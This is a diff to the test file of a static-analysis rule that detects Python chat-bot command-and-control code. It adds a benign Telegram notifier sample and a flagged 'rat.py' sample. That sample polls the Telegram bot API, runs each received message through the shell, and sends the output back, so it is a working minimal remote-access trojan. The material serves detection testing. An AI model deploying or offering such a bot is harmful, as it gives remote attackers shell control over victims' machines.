@@ -4,6 +4,11 @@ import rule from './py-chat-c2.js';
 ruleTest(rule, {
   clean: [
     {
+      name: 'a Telegram notifier that runs a fixed backup command',
+      file: 'notify.py',
+      code: `import requests, subprocess\nsubprocess.run("tar czf /tmp/b.tgz /srv", shell=True)\nrequests.post("https://api.telegram.org/bot" + TOKEN + "/sendMessage", data={"chat_id": CHAT, "text": "backup done"})\n`,
+    },
+    {
       name: 'a Discord bot that runs a fixed command',
       file: 'bot.py',
       code: `import discord, subprocess\nclient = discord.Client()\n@client.event\nasync def on_message(message):\n    if message.content == "!uptime":\n        out = subprocess.check_output(["uptime"])\n        await message.channel.send(out.decode())\n`,
@@ -26,6 +31,12 @@ ruleTest(rule, {
       file: 't.py',
       code: `import telebot, os\nbot = telebot.TeleBot(TOKEN)\n@bot.message_handler(func=lambda m: True)\ndef h(message):\n    os.system(message.text)\n`,
       findings: [{ line: 5, severity: 'critical', confidence: 'medium' }],
+    },
+    {
+      name: 'Telegram bot API polled by hand with requests, text run through the shell, output sent back',
+      file: 'rat.py',
+      code: `import requests, subprocess\nAPI = "https://api.telegram.org/bot" + TOKEN\nwhile True:\n    for u in requests.get(API + "/getUpdates").json()["result"]:\n        out = subprocess.getoutput(u["message"]["text"])\n        requests.post(API + "/sendMessage", data={"chat_id": CHAT, "text": out})\n`,
+      findings: [{ line: 5, severity: 'critical', confidence: 'high' }],
     },
   ],
 });
